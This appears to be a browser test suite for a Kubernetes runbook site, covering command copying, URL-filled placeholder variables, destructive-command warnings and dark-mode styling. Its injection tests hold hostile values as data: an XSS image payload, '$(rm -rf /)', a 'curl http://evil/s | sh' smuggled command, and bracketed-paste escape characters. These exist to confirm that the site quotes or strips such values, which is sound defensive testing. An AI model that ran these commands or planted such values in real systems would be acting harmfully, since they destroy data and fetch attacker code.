import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../../src/chromium/launch.ts';
import { siteUrl } from '../support/site.ts';
import { fillVariable, linkValuesLive } from '../support/page-values.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser.close();
});

async function open(path: string, options: { colorScheme?: 'light' | 'dark'; insecure?: boolean } = {}) {
  const context: BrowserContext = await browser.newContext({ colorScheme: options.colorScheme ?? 'light' });
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: siteUrl() });
  if (options.insecure) {
    // What a page served over plain http on a LAN address sees: no secure context, no Clipboard API writes.
    await context.addInitScript(() => Object.defineProperty(window, 'isSecureContext', { get: () => false }));
  }
  const page = await context.newPage();
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(`${siteUrl()}${path}`);
  await page.waitForSelector('.cmd__copy:not([hidden])');
  await linkValuesLive(page);
  return { page, context, errors };
}

const clipboard = (page: Page) => page.evaluate(() => navigator.clipboard.readText());
const setClipboard = (page: Page, text: string) => page.evaluate((t) => navigator.clipboard.writeText(t), text);
/** The command element whose copied text starts with `start`. */
const command = (page: Page, start: string) =>
  page
    .locator('.cmd')
    .filter({ has: page.locator('code', { hasText: start }) })
    .first();

describe('copying commands', () => {
  it('copies exactly one command: no prompt, no comment lines, no trailing newline', async () => {
    const { page, context, errors } = await open('/runbooks/pod001/');
    // In the guide: "# Verify MongoDB is running" on the line above it.
    const target = command(page, 'grep mongodb');
    await target.locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe('kubectl get pods -n klinematrix-prod | grep mongodb');
    expect(await target.locator('.cmd__copy').textContent()).toBe('Copied');
    expect(await target.locator('.cmd__status').textContent()).toBe('Copied.');
    expect(errors).toEqual([]);
    await context.close();
  });

  it('copies a multi-line JSON patch as one command, exactly as written', async () => {
    const { page, context } = await open('/runbooks/shep-003/?pod=p');
    const patch = command(page, 'initialDelaySeconds');
    await patch.locator('.cmd__copy').click();
    const copied = await clipboard(page);
    expect(copied.startsWith('kubectl patch deployment shepherd -n production -p \'{\n  "spec": {')).toBe(true);
    expect(copied.endsWith("}'")).toBe(true);
    expect(copied).not.toMatch(/[“”‘’–—]/);
    await context.close();
  });

  it('"Copy all" copies every command of the block and none of its comments', async () => {
    const { page, context } = await open('/runbooks/mks-003/');
    const block = page.locator('.cmd-block', { hasText: 'kube-apiserver.yaml' }).first();
    await block.locator('.cmd-block__copy-all').click();
    expect(await clipboard(page)).toBe(
      'ls -l /etc/kubernetes/manifests\nsudo cat /etc/kubernetes/manifests/kube-apiserver.yaml\nsudo cat /etc/kubernetes/manifests/etcd.yaml',
    );
    await context.close();
  });

  it('copies a console command without its "$ " prompt or its output', async () => {
    const { page, context } = await open('/runbooks/k8s-002/');
    await page.locator('.cmd-block[data-lang="console"] .cmd__copy').click();
    expect(await clipboard(page)).toBe('kubectl describe pod redis-57f57df567-qzjmq -n klinematrix-prod | grep Image:');
    await context.close();
  });

  it('falls back to execCommand where the Clipboard API is unavailable (plain http), with feedback', async () => {
    const { page, context } = await open('/runbooks/k8s-001/', { insecure: true });
    expect(await page.evaluate(() => window.isSecureContext)).toBe(false);
    await setClipboard(page, 'before');
    const target = command(page, 'docker pull');
    await target.locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe('docker pull redis:7.2-alpine');
    expect(await target.locator('.cmd__copy').textContent()).toBe('Copied');
    await context.close();
  });
});

describe('variables', () => {
  it('/K8S-002?namespace=prod&pod=api-7c9 shows every command with those values, and copy copies them', async () => {
    const { page, context } = await open('/K8S-002?namespace=prod&pod=api-7c9');
    expect(await page.inputValue('[data-var-input="namespace"]')).toBe('prod');
    expect(await page.inputValue('[data-var-input="pod"]')).toBe('api-7c9');
    const namespaces = await page.locator('.ph[data-var="namespace"]').allTextContents();
    expect(namespaces.length).toBeGreaterThan(5);
    expect(new Set(namespaces)).toEqual(new Set(['prod']));
    expect(new Set(await page.locator('.ph[data-var="pod"]').allTextContents())).toEqual(new Set(['api-7c9']));
    await command(page, 'describe pod api-7c9').locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe('kubectl describe pod api-7c9 -n prod | grep "Image:"');
    await context.close();
  });

  it('filling a value updates every command live and keeps it in the URL', async () => {
    const { page, context } = await open('/runbooks/mks-001/#diagnosis');
    await fillVariable(page, 'node', 'worker-2');
    expect(new Set(await page.locator('.ph[data-var="node"]').allTextContents())).toEqual(new Set(['worker-2']));
    const url = new URL(page.url());
    expect(url.searchParams.get('node')).toBe('worker-2');
    expect(url.hash).toBe('#diagnosis');
    await command(page, 'kubectl describe node').locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe('kubectl describe node worker-2');
    await fillVariable(page, 'node', '');
    expect(await page.locator('.ph[data-var="node"]').first().textContent()).toBe('NODE_NAME');
    await context.close();
  });

  it('shows a markup payload from the query string as text, never as markup', async () => {
    const payload = '<img src=x onerror="window.__pwned=1">';
    const { page, context } = await open(`/runbooks/k8s-002/?pod=${encodeURIComponent(payload)}`);
    // Shown as the characters it is, and quoted: a value that is not a plain word is data.
    expect(await page.locator('.ph[data-var="pod"]').first().textContent()).toBe(`'${payload}'`);
    expect(await page.locator('.cmd-block img').count()).toBe(0);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(await page.inputValue('[data-var-input="pod"]')).toBe(payload);
    await context.close();
  });

  it('leaves shell variables such as $GITHUB_TOKEN alone', async () => {
    const { page, context } = await open('/runbooks/shep-014/');
    const code = await command(page, 'kubectl create secret docker-registry').locator('code').textContent();
    expect(code).toContain('--docker-password=$GITHUB_TOKEN');
    expect(await page.locator('[data-var-input="github-token"]').count()).toBe(0);
    await context.close();
  });

  it('warns before copying a command whose placeholders are not filled in, then copies on the second click', async () => {
    const { page, context } = await open('/runbooks/pod001/');
    await setClipboard(page, 'unchanged');
    const target = command(page, 'kubectl logs');
    await target.locator('.cmd__copy').click();
    expect(await target.locator('.cmd__status').textContent()).toContain('Not filled in: <pod-name>');
    expect(await clipboard(page)).toBe('unchanged');
    await target.locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe('kubectl logs <pod-name> -n klinematrix-prod --previous');
    await context.close();
  });
});

describe('hostile values from a link', () => {
  /** K8S-002's `kubectl describe pod <pod-name> -n <namespace> | grep "Image:"`. */
  const describePod = (page: Page) =>
    page
      .locator('.cmd')
      .filter({ has: page.locator('.ph[data-var="namespace"]') })
      .filter({ hasText: 'kubectl describe pod' })
      .first();

  it('quotes a command substitution from the URL, marks it, and copies it only on a confirming second click that says why', async () => {
    const { page, context } = await open(`/runbooks/k8s-002/?namespace=${encodeURIComponent('$(rm -rf /)')}&pod=x`);
    await setClipboard(page, 'unchanged');
    const target = describePod(page);
    await expect.poll(() => target.locator('.ph.is-unusual').count()).toBeGreaterThan(0);
    await target.locator('.cmd__copy').click();
    expect(await target.locator('.cmd__status').textContent()).toContain('Unusual value: namespace');
    expect(await clipboard(page)).toBe('unchanged');
    await target.locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe(`kubectl describe pod x -n '$(rm -rf /)' | grep "Image:"`);
    expect(await page.locator('[data-var-input="namespace"] ~ .variables__note').textContent()).toContain(
      'shell would read as code',
    );
    await context.close();
  });

  it('never lets a second command in: ; | and # stay inside the quoted value', async () => {
    const { page, context } = await open(
      `/runbooks/k8s-002/?pod=${encodeURIComponent('x; curl http://evil/s | sh #')}&namespace=prod`,
    );
    const target = describePod(page);
    await target.locator('.cmd__copy').click();
    await target.locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe(`kubectl describe pod 'x; curl http://evil/s | sh #' -n prod | grep "Image:"`);
    await context.close();
  });

  it('removes control and invisible characters (ESC [201~ ends bracketed paste), says so, and keeps them out of the URL', async () => {
    const { page, context } = await open(
      `/runbooks/k8s-002/?pod=${encodeURIComponent('web\u001b[201~\u0007\t\u200b\u202e1')}&namespace=prod`,
    );
    const target = describePod(page);
    await target.locator('.cmd__copy').click();
    await target.locator('.cmd__copy').click();
    const copied = await clipboard(page);
    expect(copied).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    expect(copied).toBe(`kubectl describe pod 'web[201~1' -n prod | grep "Image:"`);
    expect(await page.locator('[data-var-input="pod"] ~ .variables__note').textContent()).toContain('ESC (U+001B)');
    await fillVariable(page, 'namespace', 'prod2');
    expect(await page.evaluate(() => new URLSearchParams(location.search).get('pod'))).toBe('web[201~1');
    await context.close();
  });

  it('copies a plain value that is a valid name on the first click, unquoted', async () => {
    const { page, context } = await open('/runbooks/k8s-002/?pod=api-7c9&namespace=prod');
    const target = describePod(page);
    await target.locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe('kubectl describe pod api-7c9 -n prod | grep "Image:"');
    await context.close();
  });

  it('treats what is typed into the panel the same way', async () => {
    const { page, context } = await open('/runbooks/k8s-002/');
    await fillVariable(page, 'namespace', 'Prod Space');
    const target = describePod(page);
    expect(await target.locator('.ph[data-var="namespace"]').textContent()).toBe("'Prod Space'");
    expect(await page.locator('[data-var-input="namespace"]').evaluate((i) => i.classList.contains('is-unusual'))).toBe(
      true,
    );
    await context.close();
  });
});

describe('safety', () => {
  it('marks destructive commands and asks for a confirming second click', async () => {
    const { page, context } = await open('/runbooks/node001/');
    const target = command(page, 'kubectl scale deployment frontend');
    expect(await target.getAttribute('data-safety')).toBe('destructive');
    expect(await target.locator('.cmd__safety').textContent()).toBe('destructive');
    await setClipboard(page, 'unchanged');
    await target.locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe('unchanged');
    expect(await target.locator('.cmd__status').textContent()).toContain('scaling to zero stops every pod');
    expect(await target.locator('.cmd__copy').textContent()).toBe('Click again to copy');
    await target.locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe('kubectl scale deployment frontend --replicas=0 -n klinematrix-prod');
    await context.close();
  });

  it('read-only commands copy on the first click and carry no warning label', async () => {
    const { page, context } = await open('/runbooks/node001/');
    const target = command(page, 'kubectl top nodes');
    expect(await target.getAttribute('data-safety')).toBe('read-only');
    expect(await target.locator('.cmd__safety').count()).toBe(0);
    await target.locator('.cmd__copy').click();
    expect(await clipboard(page)).toBe('kubectl top nodes');
    await context.close();
  });

  it('keeps the marked-wrong original commands out of copying', async () => {
    const { page, context } = await open('/runbooks/shep-019/');
    expect(await page.locator('.wrong-command .cmd__copy').count()).toBe(0);
    expect(await page.locator('.wrong-command pre').count()).toBeGreaterThan(0);
    await context.close();
  });
});

describe('appearance', () => {
  it('in dark mode, command blocks are dark and their labels keep AA contrast', async () => {
    const { page, context } = await open('/runbooks/node001/', { colorScheme: 'dark' });
    const body = await page
      .locator('.cmd-block__body')
      .first()
      .evaluate((e) => getComputedStyle(e).backgroundColor);
    expect(body).toBe('rgb(10, 12, 16)');
    const label = page.locator('.cmd__safety--destructive').first();
    const [fg, bg] = await label.evaluate((e) => [getComputedStyle(e).color, getComputedStyle(e).backgroundColor]);
    expect(fg).toBe('rgb(255, 179, 173)');
    expect(bg).toBe('rgb(74, 21, 18)');
    await context.close();
  });

  it('without JavaScript, commands are readable and no dead buttons or panel show', async () => {
    const context = await browser.newContext({ javaScriptEnabled: false });
    const page = await context.newPage();
    await page.goto(`${siteUrl()}/runbooks/k8s-002/?namespace=prod`);
    expect(await page.locator('.cmd__copy:visible').count()).toBe(0);
    expect(await page.locator('[data-variables]').isVisible()).toBe(false);
    expect(await page.locator('.cmd code', { hasText: 'describe pod <pod-name>' }).first().textContent()).toBe(
      'kubectl describe pod <pod-name> -n <namespace> | grep "Image:"',
    );
    await context.close();
  });
});
